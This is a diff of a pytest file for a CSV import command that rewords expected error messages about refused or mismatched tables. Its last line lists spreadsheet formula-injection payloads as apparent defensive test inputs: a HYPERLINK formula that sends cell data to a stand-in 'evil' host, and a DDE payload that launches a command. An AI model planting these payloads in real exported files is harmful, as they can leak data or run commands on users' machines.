@@ -75,8 +75,8 @@ def test_without_its_study_file_the_metric_is_told_from_the_values_of_the_trials
 @pytest.mark.parametrize(
     ("kept", "message"),
     [
-        ("evaluations.csv", "these are the evaluations of a study alone; its trials are in trials.csv"),
-        ("trials.csv", "these are the trials of a study alone; their evaluations are in evaluations.csv"),
+        ("evaluations.csv", "this table has only the evaluations of a study; its trials are in trials.csv"),
+        ("trials.csv", "this table has only the trials of a study; their evaluations are in evaluations.csv"),
     ],
 )
 def test_one_of_the_two_tables_alone_is_refused(exported, kept, message):
@@ -96,7 +96,7 @@ def test_tables_in_another_form_are_refused_with_the_command_for_csv(exported):
     for source in ("lines", "lines/trials.jsonl"):
         answer = exported("import", source, "--into", "runs/again")
         assert answer.code == 2
-        assert "only those in CSV are read" in answer.err
+        assert "only CSV tables" in answer.err
         assert "playbook export RUNS/NAME --to FOLDER" in answer.err
 
 
@@ -118,7 +118,7 @@ def test_other_tables_of_these_names_are_refused_where_they_are_said_to_be_expor
     (exported.folder / "runs/toy/export/evaluations.csv").write_text("a,b\n1,2\n")
     answer = exported("import", "runs/toy/export", "--into", "runs/again")
     assert answer.code == 2
-    assert "runs/toy/export: these are not the tables that playbook export writes" in answer.err
+    assert "runs/toy/export: these tables were not written by playbook export" in answer.err
 
 
 FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "'=1", "+x", "\t=1"]
